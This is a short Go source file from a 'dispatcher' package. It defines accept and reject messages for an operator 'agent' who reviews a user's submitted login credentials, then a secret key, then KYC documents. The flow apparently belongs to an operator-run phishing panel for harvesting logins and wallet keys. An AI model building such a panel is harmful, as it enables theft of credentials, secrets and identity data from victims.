package dispatcher

import (
	"github.com/goatkit/controlroom/internal/constants"
	"github.com/goatkit/controlroom/internal/models"
)

type reviewText struct {
	log  string
	user string
}

var acceptTexts = map[models.Stage]reviewText{
	models.StageCredentials: {"Agent accepted login credentials", "Login credentials accepted. Please proceed to enter your secret key."},
	models.StageSecretKey:   {"Agent accepted secret key", "Secret key verified. Please proceed to complete KYC."},
	models.StageKYC:         {"Agent accepted KYC and completed session", "KYC verified. Verification process completed successfully!"},
}

var rejectTexts = map[models.Stage]reviewText{
	models.StageCredentials: {"Agent rejected login credentials", "Login"},
	models.StageSecretKey:   {"Agent rejected secret key", "Secret key"},
	models.StageKYC:         {"Agent rejected KYC", "KYC"},
}

// DefaultRejectReason is the reason recorded when the agent gives none.
func DefaultRejectReason(st models.Stage) string {
	switch st {
	case models.StageCredentials:
		return constants.DefaultRejectCredentials
	case models.StageSecretKey:
		return constants.DefaultRejectSecretKey
	case models.StageKYC:
		return constants.DefaultRejectKYC
	}
	return "Submission rejected"
}

func stageLabel(st models.Stage) string {
	switch st {
	case models.StageCredentials:
		return "credentials"
	case models.StageSecretKey:
		return "secret key"
	case models.StageKYC:
		return "KYC"
	}
	return string(st)
}
